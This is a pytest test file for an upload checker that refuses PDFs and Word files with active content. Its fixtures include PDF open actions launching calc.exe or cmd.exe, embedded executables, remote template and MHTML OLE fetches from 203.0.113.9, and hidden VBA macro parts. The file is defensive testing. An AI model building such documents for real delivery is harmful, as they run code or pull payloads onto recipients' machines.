"""Active content is refused: scripts and actions in PDFs, macros in Word files, Word files
that fetch a template or an object from elsewhere when opened (applications/uploads/active.py).
Ordinary files with links and a page to open at are accepted."""

import io

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applications.uploads import ATTACHMENT_KINDS, inspect_upload
from tests.factories import fixture_bytes
from tests.uploads.test_inspect import DOCUMENT_XML, refusal, upload, zip_bytes

# --- PDF ---------------------------------------------------------------------------------


def pdf_with(change) -> bytes:
    """A one-page PDF written by pypdf, after ``change(writer, page)``."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    change(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
    )


def document_script(writer, _page):
    """A document-level script, in the /Names tree as Acrobat writes it."""
    scripts = ArrayObject([TextStringObject("greeting"), action("/JavaScript", JS="app.alert(1)")])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
    )


def open_action_script(writer, _page):
    writer.root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert(1)")


def open_action_launch(writer, _page):
    writer.root_object[NameObject("/OpenAction")] = action("/Launch", F="calc.exe")


def page_open_script(_writer, page):
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.alert(2)")}
    )


def link_launching(writer, _page):
    link = Link(rect=(50, 50, 200, 80), url="https://example.cn/")
    link[NameObject("/A")] = action("/Launch", F="cmd.exe")
    writer.add_annotation(page_number=0, annotation=link)


def attachment(writer, _page):
    writer.add_attachment("说明.exe", b"MZ\x90\x00")


def goto_and_links(writer, page):
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(50, 50, 200, 80), url="https://example.cn/")
    )
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [page.indirect_reference, NameObject("/Fit")]
    )


def goto_then_script(writer, page):
    goto = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
            NameObject("/Next"): action("/JavaScript", JS="app.alert(4)"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = goto


ACTIVE_PDFS = {
    "document-javascript": (document_script, "JavaScript"),
    "open-action-javascript": (open_action_script, "/OpenAction"),
    "open-action-launch": (open_action_launch, "/OpenAction"),
    "page-additional-action": (page_open_script, "/AA"),
    "link-that-launches": (link_launching, "/Launch"),
    "embedded-file": (attachment, "/EmbeddedFile"),
    "goto-then-script": (goto_then_script, "/OpenAction"),
}


@pytest.mark.parametrize("case", ACTIVE_PDFS)
def test_a_pdf_with_active_content_is_refused_and_the_message_says_what(case):
    change, what = ACTIVE_PDFS[case]
    error = refusal(upload("简介.pdf", pdf_with(change)))
    assert error.code == "pdf_active_content"
    assert what in error.messages[0]
    assert "另存为 PDF" in error.messages[0]


def test_a_hex_escaped_javascript_name_is_still_found():
    """/JavaScript spelt /Java#53cript: pypdf reads the name as readers do."""
    content = pdf_with(document_script)
    assert content.count(b"/JavaScript") >= 1
    disguised = content.replace(b"/JavaScript", b"/Java#53cript")
    assert refusal(upload("简介.pdf", disguised)).code == "pdf_active_content"


def test_a_pdf_with_links_and_an_opening_page_is_accepted():
    inspected = inspect_upload(
        upload("简介.pdf", pdf_with(goto_and_links)), allowed=ATTACHMENT_KINDS
    )
    assert inspected.kind == "pdf"


# --- Word 97-2003 ------------------------------------------------------------------------


def doc_with_storage_named(name: str) -> bytes:
    """LibreOffice's plan.doc with its SummaryInformation entry renamed: the directory then
    lists ``name`` (Word keeps a document's macros in a "Macros" storage holding "VBA" and
    "_VBA_PROJECT"), which is all the check has to find."""
    content = fixture_bytes("plan.doc")
    old = "\x05SummaryInformation"
    old_entry = (old.encode("utf-16-le") + b"\0\0").ljust(64, b"\0") + bytes([len(old) * 2 + 2, 0])
    assert content.count(old_entry) == 1
    new_entry = (name.encode("utf-16-le") + b"\0\0").ljust(64, b"\0") + bytes(
        [len(name) * 2 + 2, 0]
    )
    return content.replace(old_entry, new_entry)


@pytest.mark.parametrize("storage", ["Macros", "_VBA_PROJECT", "VBA"])
def test_a_doc_with_a_vba_project_is_refused(storage):
    error = refusal(upload("计划.doc", doc_with_storage_named(storage)))
    assert error.code == "doc_macro"
    assert "宏" in error.messages[0]


def test_the_doc_with_an_innocent_renamed_entry_is_still_accepted():
    inspected = inspect_upload(
        upload("计划.doc", doc_with_storage_named("Summary")), allowed=ATTACHMENT_KINDS
    )
    assert inspected.kind == "doc"


# --- DOCX --------------------------------------------------------------------------------

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(*overrides: tuple[str, str]) -> str:
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f"{parts}</Types>"
    )


def rels(*relationships: tuple[str, str, str | None]) -> str:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE_RELS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, 1)
    )
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<Relationships xmlns="{RELS}">{items}</Relationships>'


def docx(*, types=None, **parts: str | bytes) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": types or content_types(("/word/document.xml", MAIN)),
            "_rels/.rels": rels(("officeDocument", "word/document.xml", None)),
            "word/document.xml": DOCUMENT_XML,
            **{name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()},
        }
    )


ACTIVE_DOCX = {
    "external-template": (
        lambda: docx(
            word__settings_dot_xml="<w:settings/>",
            word___rels__settings_dot_xml_dot_rels=rels(
                ("attachedTemplate", "http://203.0.113.9/t.dotm", "External")
            ),
        ),
        "docx_active_content",
    ),
    "mhtml-ole-object": (
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=rels(
                (
                    "oleObject",
                    "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x",
                    "External",
                )
            )
        ),
        "docx_active_content",
    ),
    "external-ole-object": (
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=rels(
                ("oleObject", "file://203.0.113.9/share/x.xls", "External")
            )
        ),
        "docx_active_content",
    ),
    "renamed-macro-part": (
        lambda: docx(
            types=content_types(
                ("/word/document.xml", MAIN),
                ("/word/settings2.bin", "application/vnd.ms-office.vbaProject"),
            ),
            word__settings2_dot_bin=b"\xd0\xcf\x11\xe0",
            word___rels__document_dot_xml_dot_rels=rels(("vbaProject", "settings2.bin", None)),
        ),
        "docx_macro",
    ),
    "macro-enabled-content-type": (
        lambda: docx(
            types=content_types(
                ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
            )
        ),
        "docx_macro",
    ),
    "activex-control": (
        lambda: docx(**{"word__activeX__activeX1_dot_xml": "<ax:ocx/>"}),
        "docx_active_content",
    ),
}


@pytest.mark.parametrize("case", ACTIVE_DOCX)
def test_a_docx_with_active_content_is_refused(case):
    build, code = ACTIVE_DOCX[case]
    error = refusal(upload("计划.docx", build()))
    assert error.code == code


def test_a_docx_with_an_external_hyperlink_is_accepted():
    content = docx(
        word___rels__document_dot_xml_dot_rels=rels(
            ("hyperlink", "https://example.cn/", "External"), ("styles", "styles.xml", None)
        ),
        word__styles_dot_xml="<w:styles/>",
    )
    assert inspect_upload(upload("计划.docx", content), allowed=ATTACHMENT_KINDS).kind == "docx"


def test_a_docx_whose_relationships_declare_entities_is_refused_as_damaged():
    laughs = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaa">]><Relationships/>'
    error = refusal(upload("计划.docx", docx(word___rels__document_dot_xml_dot_rels=laughs)))
    assert error.code == "corrupt_docx"
